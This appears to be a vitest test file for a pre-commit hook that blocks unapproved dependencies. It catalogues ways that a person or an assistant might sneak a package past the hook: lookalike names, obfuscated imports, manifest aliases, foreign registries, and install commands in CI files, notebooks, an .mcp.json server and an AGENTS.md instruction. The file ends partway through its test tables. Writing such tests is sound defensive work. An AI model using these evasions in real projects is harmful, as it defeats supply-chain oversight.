import { readFileSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { findingsIn } from '../kit/findings.ts';
import { projectRoot, type Scratch } from '../kit/scratch.ts';
import { shop, shopWhitelist } from '../kit/shop.ts';
import { byAda, whitelistLine, whitelistText } from '../kit/whitelist.ts';
import { runIn } from '../kit/world.ts';

/*
 * What somebody (or some assistant) might write to get a package past the hook. Every row is a real change
 * in a repository that approves numpy, flask, lodash and @acme/*, judged by the hook; where what follows needs the
 * commit, git makes it and starts the hook. A row either is stopped,
 * says why it may pass, or names the heading of SECURITY.md that says why it is out of reach.
 */

const security = readFileSync(path.join(projectRoot, 'SECURITY.md'), 'utf8');

const open: Scratch[] = [];
afterEach(() => {
  for (const scratch of open.splice(0)) scratch.dispose();
});

type Files = Readonly<Record<string, string>>;

/** What the hook says to a commit of everything in the work tree: whether it may go through, and each finding. */
async function verdict(scratch: Scratch): Promise<string> {
  await scratch.git('add', '--all');
  const { code, stdout } = await runIn(scratch, ['hook', 'pre-commit']);
  return summary(code, stdout);
}

/** The same of a real commit, whose hook is a process that git starts. */
async function commitVerdict(scratch: Scratch): Promise<string> {
  await scratch.git('add', '--all');
  const { code, stderr } = await scratch.tryGit('commit', '--quiet', '--allow-empty', '--message', 'change');
  return summary(code, stderr);
}

function summary(code: number, report: string): string {
  return [code === 0 ? 'passed' : 'stopped', ...new Set(saidIn(report))].join('; ');
}

/** What a report for people says, without places and grades: loosened policy, findings, faults. */
function saidIn(report: string): string[] {
  const policy = /^policy {2}/m.test(report) ? ['policy-change'] : [];
  const findings = report.matchAll(
    /^(?:error|warning) {2}([a-z-]+)(?:\/[a-z-]+)?(?: {2}((?:npm|pypi):\S+))?/gm,
  );
  const faults = report.matchAll(/^fault {2}([a-z-]+)/gm);
  return [
    ...policy,
    ...[...findings].map(([, rule, name]) => [rule, name ?? []].flat().join(' ')),
    ...[...faults].map(([, kind]) => `fault ${kind ?? ''}`),
  ];
}

async function opened(files: Files = {}): Promise<Scratch> {
  const scratch = await shop(files);
  open.push(scratch);
  return scratch;
}

const python = (text: string): Files => ({ 'shop/new.py': text });
const js = (text: string): Files => ({ 'web/new.ts': text });
const unclear = 'passed; unclear-import';
const foreign = 'stopped; foreign-source';
const aliasJs = 'stopped; unapproved-package npm:evil; foreign-source npm:evil';
const loosened = 'passed; policy-change';
const broken = 'stopped; unapproved-package pypi:evil; fault unparsable';
const evilPy = 'stopped; unapproved-package pypi:evil';
const evilJs = 'stopped; unapproved-package npm:evil';

describe('names that look like approved ones', () => {
  test.each([
    ['fullwidth letters are the same name to Python, so this is numpy', python('import ｎumpy\n'), 'passed'],
    ['Cyrillic letters', python('import numрy\n'), 'stopped; unapproved-package pypi:numрy'],
    [
      'Cyrillic letters in JavaScript',
      js("import x from 'lоdash';\n"),
      'stopped; unapproved-package npm:lоdash',
    ],
    [
      'another scope that looks the same',
      js("import x from '@аcme/ui';\n"),
      'stopped; unapproved-package npm:@аcme/ui',
    ],
    ['case', js("import x from 'Lodash';\n"), 'stopped; unapproved-package npm:Lodash'],
    ['a longer name', python('import numpy_utils\n'), 'stopped; unapproved-package pypi:numpy-utils'],
    [
      'a character without width',
      python('import num\u200bpy\n'),
      'stopped; unapproved-package pypi:num\\u{200b}py; fault unparsable',
    ],
    ['a character without width in JavaScript', js("import x from 'lodash\u200b';\n"), unclear],
    ['a subpath that climbs', js("import x from 'lodash/../evil';\n"), evilJs],
    ['a scope that is no scope', js("import x from '@acme/../evil';\n"), evilJs],
  ])('%s', async (_, files, expected) => {
    const scratch = await opened();
    scratch.write(files);
    expect(await verdict(scratch)).toBe(expected);
  });
});

describe('how an import is written', () => {
  test.each([
    ['escapes in a specifier', js("import x from '\\x65vil';\n"), evilJs],
    ['unicode escapes in a specifier', js("import x from '\\u{65}vil';\n"), evilJs],
    ['an escaped keyword, which no engine takes for one', js("im\\u0070ort('evil');\n"), 'passed'],
    ['an escaped loader', js("r\\u0065quire('evil');\n"), evilJs],
    ['a lone carriage return behind a comment', python('# x\rimport evil\n'), evilPy],
    ['a line separator behind a comment', js("// x\u2028import x from 'evil';\n"), evilJs],
    ['a form feed', python('\fimport evil\n'), evilPy],
    ['a continued line', python('import \\\n  evil\n'), evilPy],
    ['behind a semicolon', python('x = 1; import evil\n'), evilPy],
    ['a byte-order mark', python('\ufeffimport evil\n'), evilPy],
    [
      'an encoding that hides text',
      python('# -*- coding: utf-7 -*-\n+AGk-mport evil\n'),
      'stopped; fault unparsable',
    ],
    [
      'behind a string whose quotes stand in expressions over lines',
      python(`def f(a=[({[]})])->"":\n if(f"{[(\n(y:=''))]}[{(''in\n(''''''()))}"):l#\nimport evil\n`),
      evilPy,
    ],
    ['quoted in an expression of a string', python('x = f"{"import evil"}{\n1}"\n'), 'passed'],
    ['in a block that never runs', python('if False:\n    import evil\n'), evilPy],
    [
      'under TYPE_CHECKING',
      python('from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import evil\n'),
      evilPy,
    ],
    ['as an alternative', python('try:\n    import numpy\nexcept ImportError:\n    import evil\n'), evilPy],
    ['in an f-string', python('x = f"{__import__(\'evil\')}"\n'), evilPy],
    ['in a template literal', js('const x = `${require("evil")}`;\n'), evilJs],
    ['re-exported', js("export * from 'evil';\n"), evilJs],
    ['import equals', js("import x = require('evil');\n"), evilJs],
    ['a type', js("type X = import('evil').X;\n"), evilJs],
    ['an inline loader of a bundler', js("import x from 'evil!./price';\n"), evilJs],
    ['a query', js("import x from 'evil?raw';\n"), evilJs],
    ['through node_modules', js("import x from '../node_modules/evil/index.js';\n"), evilJs],
    ['through an absolute path', js("import x from '/srv/node_modules/evil/index.js';\n"), evilJs],
    ['through node_modules and back', js("import x from '../node_modules/lodash/../evil/x.js';\n"), evilJs],
    ['through node_modules in a URL', js("import x from '../node%5fmodules/evil/x.js';\n"), evilJs],
    ['through node_modules in capitals', js("import x from '../Node_Modules/evil/x.js';\n"), evilJs],
    ['through an approved package', js("import x from 'lodash/node_modules/evil';\n"), evilJs],
    ['from a URL', js("import x from 'https://files.example/evil.js';\n"), unclear],
    ['with a scheme', js("import x from 'npm:evil';\n"), evilJs],
  ])('%s', async (_, files, expected) => {
    const scratch = await opened();
    scratch.write(files);
    expect(await verdict(scratch)).toBe(expected);
  });
});

describe('how a loader is called', () => {
  test.each([
    ['import_module', python('import importlib\nimportlib.import_module("evil")\n'), evilPy],
    [
      'import_module under another name',
      python('from importlib import import_module as go\ngo("evil")\n'),
      evilPy,
    ],
    ['importlib under another name', python('import importlib as lib\nlib.import_module("evil")\n'), evilPy],
    [
      'a loader in a variable',
      python('import importlib\ngo = importlib.import_module\ngo("evil")\n'),
      evilPy,
    ],
    ['builtins.__import__', python('import builtins\nbuiltins.__import__("evil")\n'), evilPy],
    ['a name that is put together', python('__import__("ev" + "il")\n'), unclear],
    ['a path of literals', js("import('./../node_' + 'modules/evil/x.js');\n"), unclear],
    ['a keyword', python('__import__(name="evil")\n'), evilPy],
    [
      'a keyword of import_module',
      python('import importlib\nimportlib.import_module(name="evil")\n'),
      evilPy,
    ],
    [
      'an assignment in an expression',
      python('import importlib\n(go := importlib.import_module)("evil")\n'),
      evilPy,
    ],
    [
      'relative to a package',
      python('from importlib import import_module\nimport_module(".x", "evil")\n'),
      evilPy,
    ],
    [
      'relative to a package in a variable',
      python('from importlib import import_module\np = "evil"\nimport_module(".x", p)\n'),
      unclear,
    ],
    [
      'relative to a package among other arguments',
      python('from importlib import import_module\nimport_module(".x", **{"package": "evil"})\n'),
      unclear,
    ],
    [
      'relative to a package in the globals',
      python('__import__("x", {"__package__": "evil"}, None, [], 1)\n'),
      unclear,
    ],
    ['importlib in brackets', python('import importlib\n(importlib).import_module("evil")\n'), evilPy],
    [
      'importlib in an assignment in an expression',
      python('import importlib\n(lib := importlib).import_module("evil")\n'),
      evilPy,
    ],
    [
      'a comment before a loader in brackets',
      python('import importlib\n(  # noqa\n    importlib.import_module)("evil")\n'),
      evilPy,
    ],
    ['a loader as a decorator', python('@__import__\nclass evil: pass\n'), unclear],
    ['__builtins__ as a module', python('__builtins__.__import__("evil")\n'), evilPy],
    ['everything of importlib', python('from importlib import *\nimport_module("evil")\n'), evilPy],
    ['a loader that is handed on', python('list(map(__import__, ["evil"]))\n'), unclear],
    ['arguments in a list', python('__import__(*["evil"])\n'), unclear],
    ['an f-string as the name', python('name = "evil"\n__import__(f"{name}")\n'), unclear],
    [
      'importlib in a variable',
      python('import importlib\nlib = importlib\nlib.import_module("evil")\n'),
      evilPy,
    ],
    ['importlib by __import__', python('__import__("importlib").import_module("evil")\n'), evilPy],
    [
      'importlib out of sys.modules',
      python('import sys\nsys.modules["importlib"].import_module("evil")\n'),
      evilPy,
    ],
    ['__builtins__', python('__builtins__["__import__"]("evil")\n'), evilPy],
    ['getattr', python('import importlib\ngetattr(importlib, "import_module")("evil")\n'), evilPy],
    [
      'a loader in a list',
      python('from importlib import import_module\n[import_module][0]("evil")\n'),
      unclear,
    ],
    [
      'a loader among other values',
      python('import importlib\ngo, x = importlib.import_module, 1\ngo("evil")\n'),
      unclear,
    ],
    [
      'a loader as a default',
      python('import importlib\ndef f(go=importlib.import_module): go("evil")\n'),
      unclear,
    ],
    ['a loader as a default of a lambda', python('f = lambda n, go=__import__: go(n)\nf("evil")\n'), unclear],
    [
      'a loader that is returned',
      python('from importlib import import_module\ndef f(): return import_module\nf()("evil")\n'),
      unclear,
    ],
    [
      'a loader in an attribute',
      python('import importlib\nclass A:\n    def f(self): self.go = importlib.import_module\n'),
      unclear,
    ],
    ['the lazy keyword', python('lazy import evil\n'), evilPy],
    ['everything of a package', python('from evil import *\n'), evilPy],
    ['another name for it', python('import evil as numpy\n'), evilPy],
    ['globalThis.require', { 'web/new.js': "globalThis.require('evil');\n" }, evilJs],
    ['require of the main module', { 'web/new.js': "require.main.require('evil');\n" }, evilJs],
    ['require as a default', { 'web/new.js': "(function (r = require) { r('evil'); })();\n" }, evilJs],
    [
      'a builtin that the process gives',
      js("process.getBuiltinModule('module').createRequire('/')('evil');\n"),
      evilJs,
    ],
    ['a deferred import', js("import defer * as x from 'evil';\n"), evilJs],
    ['an import of the source', { 'web/new.mjs': "import source x from 'evil';\n" }, evilJs],
    ['an import with attributes', js("import x from 'evil' with { type: 'json' };\n"), evilJs],
    ['a comment before the name', js("import(/* c */ 'evil');\n"), evilJs],
    ['a directive for types', js('/// <reference types="evil" />\n'), evilJs],
    ['a type in a comment', { 'web/new.js': "/** @type {import('evil').X} */\nlet x;\n" }, evilJs],
    ['require in an object', { 'web/new.js': "const o = { r: require };\no.r('evil');\n" }, evilJs],
    ['require that is handed on', { 'web/new.js': "['evil'].map(require);\n" }, evilJs],
    ['the internal loader', js("import Module from 'node:module';\nModule._load('evil');\n"), evilJs],
    ['require by call', { 'web/new.js': "require.call(null, 'evil');\n" }, evilJs],
    ['require by apply', { 'web/new.js': "require.apply(null, ['evil']);\n" }, evilJs],
    ['require by Reflect.apply', { 'web/new.js': "Reflect.apply(require, null, ['evil']);\n" }, evilJs],
    ['require that is bound', { 'web/new.js': "const r = require.bind(null);\nr('evil');\n" }, evilJs],
    ['require by its name in quotes', { 'web/new.js': "module['require']('evil');\n" }, evilJs],
    ['new require', { 'web/new.js': "new require('evil').X();\n" }, evilJs],
    ['require or something else', { 'web/new.js': "(require || 0)('evil');\n" }, evilJs],
    ['require of the module in brackets', { 'web/new.js': "(module.require)('evil');\n" }, evilJs],
    ['a cast of require', js("(<any>require)('evil');\n"), evilJs],
    ['require of Bun', { 'web/new.mjs': "import.meta.require('evil');\n" }, evilJs],
    ['the source of a module', { 'web/new.mjs': "await import.source('evil');\n" }, evilJs],
    ['a directive in capitals', js('/// <REFERENCE TYPES="evil" />\n'), evilJs],
    ['a directive with a path', js('/// <reference path="../node_modules/evil/x.d.ts" />\n'), evilJs],
    [
      'createRequire by its name in quotes',
      { 'web/new.mjs': 'import { "createRequire" as c } from "module";\nc("/")("evil");\n' },
      evilJs,
    ],
    ['require in a variable', { 'web/new.js': "const r = require;\nr('evil');\n" }, evilJs],
    ['module.require', { 'web/new.js': "module.require('evil');\n" }, evilJs],
    [
      'createRequire',
      js(
        "import { createRequire } from 'node:module';\nconst r = createRequire(import.meta.url);\nr('evil');\n",
      ),
      evilJs,
    ],
    [
      'createRequire under another name',
      js("import { createRequire as make } from 'node:module';\nmake(import.meta.url)('evil');\n"),
      evilJs,
    ],
    ['a name that is put together in JavaScript', js("import('ev' + 'il');\n"), unclear],
    ['a template with a substitution', js("const x = 'evil';\nimport(`${x}`);\n"), unclear],
    ['a mock', js("jest.mock('evil');\n"), evilJs],
  ])('%s', async (_, files, expected) => {
    const scratch = await opened();
    scratch.write(files);
    expect(await verdict(scratch)).toBe(expected);
  });
});

/** A file as uv compiles it, with more lines behind those of the shop. */
const compiled = (more: string) =>
  [
    '# This file was autogenerated by uv via the following command:\n',
    '#    uv pip compile requirements.in -o requirements.txt\n',
    'flask==3.0.0\n    # via -r requirements.in\nnumpy==2.0.0\n    # via -r requirements.in\n',
    more,
  ].join('');

describe('what a compiled requirements file says of its lines', () => {
  const asked = (names: string): Files => ({ 'requirements.in': names });
  const blinker = 'blinker==1.0\n    # via flask\n';
  test.each([
    [
      'a dependency of an approved package, where nothing new is asked for',
      { 'requirements.txt': compiled('evil-pkg==1.0\n    # via flask\n') },
      'stopped; unapproved-package pypi:evil-pkg',
    ],
    [
      'the same where more is asked for of that package: so an extra comes in',
      { ...asked('flask[async]\nnumpy\n'), 'requirements.txt': compiled(blinker) },
      'passed',
    ],
    [
      'the same where something is asked for of another package: it is listed, and the registry is asked',
      { ...asked('flask\nnumpy>=2\n'), 'requirements.txt': compiled(blinker) },
      loosened,
    ],
    [
      'a dependency of nothing',
      { ...asked('flask\nnumpy>=2\n'), 'requirements.txt': compiled('evil==1.0\n') },
      evilPy,
    ],
    [
      'a dependency from elsewhere',
      {
        ...asked('flask[async]\nnumpy\n'),
        'requirements.txt': compiled('blinker @ https://files.example/b.whl\n    # via flask\n'),
      },
      'stopped; foreign-source pypi:blinker',
    ],
    ['other versions', { 'requirements.txt': compiled('').replaceAll('.0.0', '.9.9') }, 'passed'],
  ])('%s', async (_, change: Files, expected) => {
    const scratch = await opened({ ...asked('flask\nnumpy\n'), 'requirements.txt': compiled('') });
    scratch.write(change);
    expect(await verdict(scratch)).toBe(expected);
  });
});

describe('what manifests and settings say', () => {
  const manifest = (fields: string): Files => ({ 'package.json': `{\n  "name": "shop",\n${fields}\n}\n` });
  const requirements = (line: string): Files => ({ 'requirements.txt': `flask\nnumpy\n${line}\n` });
  test.each([
    ['an alias', manifest('"dependencies": { "lodash": "npm:evil" }'), aliasJs],
    [
      'an alias of an approved scope',
      manifest('"dependencies": { "lodash": "4", "@acme/ui": "npm:evil" }'),
      aliasJs,
    ],
    ['the same key twice', manifest('"dependencies": { "lodash": "4", "lodash": "npm:evil" }'), aliasJs],
    [
      'the same table twice',
      manifest('"dependencies": { "lodash": "4" }, "dependencies": { "evil": "1" }'),
      evilJs,
    ],
    [
      'a git dependency',
      manifest('"dependencies": { "lodash": "github:evil/lodash" }'),
      'stopped; foreign-source npm:lodash',
    ],
    [
      'a tarball',
      manifest('"dependencies": { "lodash": "https://files.example/lodash.tgz" }'),
      'stopped; foreign-source npm:lodash',
    ],
    [
      'an override',
      manifest('"dependencies": { "lodash": "4" }, "overrides": { "lodash": "npm:evil" }'),
      aliasJs,
    ],
    [
      'a resolution',
      manifest('"dependencies": { "lodash": "4" }, "resolutions": { "lodash": "npm:evil" }'),
      aliasJs,
    ],
    ['a catalog', { 'pnpm-workspace.yaml': 'catalog:\n  lodash: npm:evil\n' }, aliasJs],
    [
      'a manifest in a corner that bears the name',
      {
        ...manifest('"dependencies": { "lodash": "4", "evil": "1" }'),
        'corner/package.json': '{ "name": "evil" }\n',
      },
      evilJs,
    ],
    [
      'a Python manifest in a corner that bears the name',
      { ...requirements('evil'), 'corner/pyproject.toml': '[project]\nname = "evil"\n' },
      evilPy,
    ],
    [
      'imports of package.json',
      {
        ...manifest('"dependencies": { "lodash": "4" }, "imports": { "#x": "evil" }'),
        ...js("import x from '#x';\n"),
      },
      evilJs,
    ],
    [
      'paths of TypeScript, to a package',
      {
        'tsconfig.json': '{ "compilerOptions": { "paths": { "lodash": ["./node_modules/evil"] } } }\n',
        ...js("import x from 'lodash';\n"),
      },
      evilJs,
    ],
    [
      'paths of TypeScript, to anything',
      {
        'tsconfig.json': '{ "compilerOptions": { "paths": { "*": ["./node_modules/*"] } } }\n',
        ...js("import x from 'evil';\n"),
      },
      evilJs,
    ],
    ['an import map', { 'deno.json': '{ "imports": { "lodash": "npm:evil" } }\n' }, aliasJs],
    [
      'an import map to a URL',
      { 'deno.json': '{ "imports": { "lodash": "https://files.example/x.js" } }\n' },
      foreign,
    ],
    [
      'an alias of a bundler',
      {
        'vite.config.ts': "export default { resolve: { alias: { lodash: 'evil' } } };\n",
        ...js("import x from 'lodash';\n"),
      },
      evilJs,
    ],
    [
      'an alias to what the same change has git ignore',
      {
        '.gitignore': 'gen/\n',
        'tsconfig.json': '{ "compilerOptions": { "paths": { "evil": ["./gen/evil"] } } }\n',
        ...js("import x from 'evil';\n"),
      },
      evilJs,
    ],
    [
      'an alias of a bundler under another name',
      {
        'package.json': '{ "name": "shop", "scripts": { "build": "webpack --config pack/all.js" } }\n',
        'pack/all.js': "module.exports = { resolve: { alias: { lodash: 'evil' } } };\n",
        ...js("import x from 'lodash';\n"),
      },
      evilJs,
    ],
    ['an override of pnpm', { 'pnpm-workspace.yaml': 'overrides:\n  lodash: npm:evil@1\n' }, aliasJs],
    [
      'a dependency of pnpm itself',
      { 'pnpm-workspace.yaml': 'configDependencies:\n  evil: 1.0.0+sha512-abc\n' },
      evilJs,
    ],
    [
      'a dependency that Yarn adds to another',
      { '.yarnrc.yml': 'packageExtensions:\n  "lodash@*":\n    dependencies: { evil: "*" }\n' },
      evilJs,
    ],
    ['a name on two lines', requirements('ev\\\nil'), evilPy],
    ['a name from the environment', requirements('${NAME}'), 'stopped; fault manifest'],
    ['a package of conda’s usual channel', requirements('conda-forge::evil >=3'), evilPy],
    [
      'an approved package of another channel',
      requirements('evil::numpy'),
      'stopped; foreign-source pypi:numpy',
    ],
    ['a line that a template fills in after its name', requirements('evil {{ version }}'), evilPy],
    [
      'a tag in a comment, and what no parser accepts',
      { 'pyproject.toml': '# {{ name }}\n[project\n' },
      'stopped; fault manifest',
    ],
    [
      'an override of uv',
      { 'pyproject.toml': '[tool.uv]\noverride-dependencies = ["numpy @ https://files.example/x.whl"]\n' },
      'stopped; foreign-source pypi:numpy',
    ],
    ['a dependency without an import', manifest('"dependencies": { "lodash": "4", "evil": "1" }'), evilJs],
    [
      'an optional peer',
      manifest('"dependencies": { "lodash": "4" }, "peerDependencies": { "evil": "1" }'),
      evilJs,
    ],
    [
      'an editable install from git',
      requirements('-e git+https://git.example/evil.git#egg=numpy'),
      'stopped; foreign-source pypi:numpy',
    ],
    [
      'a direct URL',
      requirements('numpy @ https://files.example/numpy.whl'),
      'stopped; foreign-source pypi:numpy',
    ],
    ['a path', requirements('./vendor/numpy.whl'), foreign],
    ['an extra index', requirements('--extra-index-url https://registry.example/simple'), foreign],
    ['links', requirements('--find-links https://files.example/'), foreign],
    ['a list of requirements elsewhere', requirements('-r https://files.example/more.txt'), foreign],
    ['an included file of any name', { ...requirements('-r more.list'), 'more.list': 'evil\n' }, evilPy],
    [
      'a constraint that changes the source',
      {
        'constraints.txt': 'numpy @ https://files.example/numpy.whl\n',
        ...requirements('-c constraints.txt'),
      },
      'stopped; foreign-source pypi:numpy',
    ],
    ['a build requirement', { 'pyproject.toml': '[build-system]\nrequires = ["evil"]\n' }, evilPy],
    [
      'a list that is computed',
      { 'setup.py': 'from setuptools import setup\nsetup(install_requires=["ev" + "il"])\n' },
      'stopped; unapproved-package pypi:ev; unapproved-package pypi:il',
    ],
    [
      'a source in script metadata',
      python(
        '# /// script\n# dependencies = ["numpy"]\n# [tool.uv.sources]\n# numpy = { git = "https://git.example/n" }\n# ///\n',
      ),
      'stopped; foreign-source pypi:numpy',
    ],
    [
      'an index in script metadata',
      python('# /// script\n# [tool.uv]\n# index-url = "https://registry.example/simple"\n# ///\n'),
      foreign,
    ],
    [
      'what a package is said to depend on',
      { 'uv.toml': '[[dependency-metadata]]\nname = "numpy"\nrequires-dist = ["evil"]\n' },
      evilPy,
    ],
    ['an environment of tox', { 'tox.ini': '[testenv]\ndeps = evil\n' }, evilPy],
    ['an environment of MLflow', { 'python_env.yaml': 'python: "3.11"\ndependencies:\n- evil\n' }, evilPy],
    ['a page of PyScript', { 'web/pyscript.toml': 'packages = ["evil"]\n' }, evilPy],
    ['a manifest of Mojo', { 'mojoproject.toml': '[dependencies]\nevil = "*"\n' }, evilPy],
    ['what conda-lock locks', { 'pyproject.toml': '[tool.conda-lock.dependencies]\nevil = ">=1"\n' }, evilPy],
    ['constraints elsewhere', requirements('-c https://files.example/c.txt'), foreign],
    ['a folder of lists', { 'dev-requirements/base.txt': 'evil\n' }, evilPy],
    [
      'a heading that makes the file a lockfile from now on',
      { 'requirements.in': 'flask\nnumpy\n', 'requirements.txt': compiled('evil==1.0\n    # via flask\n') },
      `stopped; policy-change; unapproved-package pypi:evil`,
    ],
    [
      'an install command in an exported script',
      python("get_ipython().system('pip install evil')\n"),
      evilPy,
    ],
    ['script metadata', python('# /// script\n# dependencies = ["evil"]\n# ///\n'), evilPy],
    [
      'an install command in a notebook',
      {
        'shop/new.ipynb': JSON.stringify({
          cells: [
            {
              cell_type: 'code',
              source: ['%pip install evil\n'],
              metadata: {},
              outputs: [],
              execution_count: null,
            },
          ],
          metadata: {},
          nbformat: 4,
          nbformat_minor: 5,
        }),
      },
      evilPy,
    ],
    [
      'an install command in a shell escape',
      {
        'shop/new.ipynb': JSON.stringify({
          cells: [
            {
              cell_type: 'code',
              source: ['!pip install evil\n'],
              metadata: {},
              outputs: [],
              execution_count: null,
            },
          ],
          metadata: {},
          nbformat: 4,
          nbformat_minor: 5,
        }),
      },
      evilPy,
    ],
    ['.npmrc', { '.npmrc': 'registry=https://registry.example/\n' }, foreign],
    ['.npmrc for an approved scope', { '.npmrc': '@acme:registry=https://registry.example/\n' }, foreign],
    ['a registry of pnpm', { 'pnpm-workspace.yaml': 'registry: https://registry.example/\n' }, foreign],
    [
      'a registry of pnpm for an approved scope',
      { 'pnpm-workspace.yaml': 'registries:\n  "@acme": https://registry.example/\n' },
      foreign,
    ],
    ['a plug-in of Deno', { 'deno.json': '{ "lint": { "plugins": ["npm:evil"] } }\n' }, evilJs],
    ['.yarnrc.yml', { '.yarnrc.yml': 'npmRegistryServer: https://registry.example\n' }, foreign],
    ...(
      [
        ['a blank', 'registry "https://registry.example/"'],
        ['a colon', 'registry: "https://registry.example/"'],
        ['a colon, for an approved scope', '"@acme:registry": "https://registry.example/"'],
        ['single quotes', "'registry': 'https://registry.example/'"],
        ['another setting before it', 'lastUpdateCheck 1 registry "https://registry.example/"'],
        ['an option', '--registry "https://registry.example/"'],
        ['an option of a command', '--install.registry: "https://registry.example/"'],
        ['an option of every command', '"--*.registry" "https://registry.example/"'],
        ['braces', '{ registry: "https://registry.example/" }'],
        ['a further file', '--use-yarnrc "./deploy/settings"'],
      ] as const
    ).map(([what, line]): [string, Files, string] => [
      `.yarnrc: ${what}`,
      { '.yarnrc': `${line}\n`, 'deploy/settings': 'registry "https://registry.example/"\n' },
      foreign,
    ]),
    [
      '.yarnrc without a registry',
      { '.yarnrc': 'lastUpdateCheck 1\n--install.check-files: true\nyarn-offline-mirror-pruning true\n' },
      'passed',
    ],
    [
      '.yarnrc with everybody’s registry',
      { '.yarnrc': 'registry: "https://registry.yarnpkg.com"\n' },
      'passed',
    ],
    [
      'a further file of .npmrc',
      {
        '.npmrc': 'userconfig=./deploy/npmrc\n',
        'deploy/npmrc': 'registry=https://registry.example/\n',
      },
      foreign,
    ],
    ['.NPMRC', { 'web/.NPMRC': 'registry=https://registry.example/\n' }, foreign],
    ['.NPMRC without a registry', { 'web/.NPMRC': 'save-exact=true\n' }, 'passed'],
    ['.npmrc without a registry', { '.npmrc': 'save-exact=true\ncache=./userconfig\n' }, 'passed'],
    ['bunfig.toml', { 'bunfig.toml': '[install]\nregistry = "https://registry.example"\n' }, foreign],
    ['pip.conf', { 'pip.conf': '[global]\nextra-index-url = https://registry.example/simple\n' }, foreign],
    ['uv.toml', { 'uv.toml': '[[index]]\nurl = "https://registry.example/simple"\n' }, foreign],
    ['pdm.toml', { 'pdm.toml': '[pypi]\nurl = "https://registry.example/simple"\n' }, foreign],
    [
      'pdm.toml that says where to publish',
      { 'pdm.toml': '[pypi]\nverify_ssl = true\n[repository.own]\nurl = "https://registry.example"\n' },
      'passed',
    ],
    [
      'the settings of pixi',
      { '.pixi/config.toml': '[pypi-config]\nindex-url = "https://registry.example/simple"\n' },
      foreign,
    ],
    [
      'the settings of another program',
      { '.shop/config.toml': '[pypi-config]\nindex-url = "https://registry.example/simple"\n' },
      'passed',
    ],
  ])('%s', async (_, files, expected) => {
    const scratch = await opened();
    scratch.write(files);
    expect(await verdict(scratch)).toBe(expected);
  });
});

describe('an edit of sys.path that is none', () => {
  test.each([
    ['in a comment', '# never do sys.path.append("old/bad")\n'],
    ['in a comparison', 'import sys\nif sys.path == ["old/bad"]:\n    pass\n'],
    ['in a string', 'text = \'sys.path = ["old/bad"]\'\n'],
    ['in code that never runs', 'import sys\nif False:\n    sys.path.append("old/bad")\n'],
    ['in a function that nothing calls', 'import sys\ndef f():\n    sys.path.append("old/bad")\n'],
  ])('%s', async (_, text) => {
    const scratch = await opened({ 'old/bad/evil.py': '' });
    scratch.write(python(`${text}import evil\n`));
    expect(await verdict(scratch)).toBe(evilPy);
  });
});

describe('a module where Python does not look', () => {
  const corner: Files = { 'corner/evil.py': '' };
  const checker = (text: string): Files => ({ ...corner, 'pyproject.toml': text });
  /** A change, and the same one of somebody whose module is where Python looks. */
  const rows: readonly (readonly [title: string, change: Files, honest: Files])[] = [
    [
      'in a folder src of its own',
      { 'corner/src/evil.py': '' },
      { 'corner/src/evil.py': '', 'corner/pyproject.toml': '[project]\nname = "corner"\n' },
    ],
    [
      'beside an empty setup.py',
      { ...corner, 'corner/setup.py': '' },
      { ...corner, 'corner/setup.py': 'from setuptools import setup\nsetup(py_modules=["evil"])\n' },
    ],
    [
      'that nothing compiles',
      { 'evil.pyx': 'x = 1\n' },
      { 'evil.pyx': 'x = 1\n', 'meson.build': "py.extension_module('evil', 'evil.pyx')\n" },
    ],
    ['that nothing generates', { 'evil.proto': '' }, { 'evil.proto': 'syntax = "proto3";\n' }],
    [
      'which a comment names',
      { 'setup.py': '# package_dir={"evil": "shop"}\n' },
      { 'setup.py': 'setup(package_dir={"evil": "shop"})\n' },
    ],
    [
      'which settings of a linter name',
      checker('[tool.ruff]\nsrc = ["corner"]\n'),
      checker('[tool.pytest.ini_options]\npythonpath = ["corner"]\n'),
    ],
    [
      'which a linter calls the project’s own',
      checker('[tool.deptry]\nknown_first_party = ["evil"]\n'),
      checker('[tool.maturin]\npython-source = "corner"\n'),
    ],
    [
      'which a variable of the environment names',
      { ...corner, '.env': 'PYTHONPATH=corner\n' },
      { ...corner, 'pytest.ini': '[pytest]\npythonpath = corner\n' },
    ],
  ];

  test.each(rows)('%s', async (_, change, honest) => {
    const name = 'evil.proto' in change ? 'evil_pb2' : 'evil';
    for (const [files, expected] of [
      [change, `stopped; unapproved-package pypi:${name.replace('_', '-')}`],
      [honest, 'passed'],
    ] as const) {
      const scratch = await opened();
      scratch.write({ ...files, ...python(`import ${name}\n`) });
      expect(await verdict(scratch)).toBe(expected);
    }
  });

  test.each([
    ['which settings of a linter name at the base', { 'ruff.toml': 'src = ["corner"]\n' }],
    ['which the environment of the base names', { '.env': 'PYTHONPATH=corner\n' }],
    ['in a folder src of the base', { 'corner/src/other.py': '' }],
  ])('and one %s', async (_, base: Files) => {
    const scratch = await opened(base);
    scratch.write({ ...corner, 'corner/src/evil.py': '', ...python('import evil\n') });
    expect(await verdict(scratch)).toBe('passed');
  });
});

/** Passes, and the heading in SECURITY.md under which the reason stands. */
describe('what commands install', () => {
  const workflow = (run: string): Files => ({
    '.github/workflows/ci.yml': `jobs: { a: { steps: [{ run: ${JSON.stringify(run)} }] } }\n`,
  });
  const script = (text: string): Files => ({ 'run.sh': text });

  test.each([
    ['a Dockerfile', { Dockerfile: 'FROM python\nRUN pip install evil\n' }, evilPy],
    ['a workflow', workflow('pip install numpy evil'), evilPy],
    ['a program that nobody is asked about', workflow('npx -y evil'), evilJs],
    [
      'a server of an assistant',
      { '.mcp.json': '{ "mcpServers": { "a": { "command": "npx", "args": ["evil"] } } }\n' },
      evilJs,
    ],
    [
      'letters by their numbers',
      { '.mcp.json': '{ "mcpServers": { "a": { "command": "n\\u0070x", "args": ["evil"] } } }\n' },
      evilJs,
    ],
    ['instructions of an assistant', { 'AGENTS.md': 'Run `pip install evil` first.\n' }, evilPy],
    ['a shell in a shell', script(`bash -c "sh -c 'pip install evil'"\n`), evilPy],
    ['what only starts a command', script('sudo -u root env A=b timeout 9 pip install evil\n'), evilPy],
    ['quotes and backslashes', script('p"i"p in\\stall ev""il\n'), evilPy],
    ['a line that goes on', script('pip install \\\n  evil\n'), evilPy],
    ['an index in a variable', script('export PIP_INDEX_URL=https://files.example/simple\n'), foreign],
    [
      'a program of a script, whose package nobody knows',
      {
        'package.json':
          '{ "name": "shop", "dependencies": { "lodash": "4" }, "scripts": { "postinstall": "npx evil" } }\n',
      },
      'passed; unclear-import',
    ],
